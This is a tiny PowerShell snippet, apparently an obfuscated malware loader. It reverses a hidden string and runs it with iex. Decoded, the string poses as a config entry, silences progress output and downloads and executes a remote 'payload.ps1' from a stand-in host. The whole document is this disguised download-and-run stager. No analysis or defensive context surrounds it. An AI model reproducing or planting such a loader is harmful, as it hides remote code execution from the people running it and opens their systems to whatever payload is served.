$miqit='
xei | 1sp.daolyap/elpmaxe.cvs-cnys.selif//:ptth gnisraPcisaBesU- rwi
''eunitnoCyltneliS'' = ecnereferPssergorP$
1v 9935 gifnoc #'.ToCharArray(); [array]::Reverse($miqit); iex (-join $miqit)